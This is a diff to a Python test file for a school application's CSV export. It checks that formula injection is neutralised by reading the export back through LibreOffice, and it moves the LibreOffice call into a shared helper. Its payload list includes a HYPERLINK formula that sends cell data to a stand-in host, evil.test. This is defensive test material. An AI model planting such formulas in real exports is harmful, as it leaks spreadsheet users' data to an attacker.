@@ -5,12 +5,12 @@ whatever the names people typed."""
 from __future__ import annotations
 
 import shutil
-import subprocess
 
 import pytest
 from openpyxl import load_workbook
 
 from school.core.exports import csv_bytes, neutralise
+from tests.libreoffice import convert, needs_libreoffice
 
 PAYLOADS = [
     'Ivan;=HYPERLINK("http://evil.test/?"&A1;"x")',  # the attack of the issue: no comma
@@ -33,22 +33,14 @@ def _cells_read_by_libreoffice(tmp_path, data: bytes, separator: int) -> list:
     evaluated (the most dangerous import settings), as openpyxl cells of the saved XLSX."""
     source = tmp_path / "export.csv"
     source.write_bytes(data)
-    out = tmp_path / f"out-{separator}"
     # Separator, text delimiter ", UTF-8, from line 1, standard cells, language, quoted
     # fields not forced to text, special numbers detected, …, evaluate formulas.
     infilter = f"CSV:{separator},34,76,1,,0,false,true,false,false,false,-1,true"
-    subprocess.run(
-        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo-profile",
-         f"--infilter={infilter}", "--convert-to", "xlsx", "--outdir", str(out), str(source)],
-        check=True, capture_output=True, timeout=120,
-    )
-    sheet = load_workbook(out / "export.xlsx").active
+    [converted] = convert([source], tmp_path / f"out-{separator}", infilter=infilter)
+    sheet = load_workbook(converted).active
     return [c for row in sheet.iter_rows() for c in row if c.value is not None]
 
 
-needs_libreoffice = pytest.mark.skipif(
-    not shutil.which("soffice"),
-    reason="LibreOffice reads the file back (scripts/setup test installs libreoffice-calc-nogui)")
 
 
 def test_the_old_guard_would_fail_this_test(tmp_path):
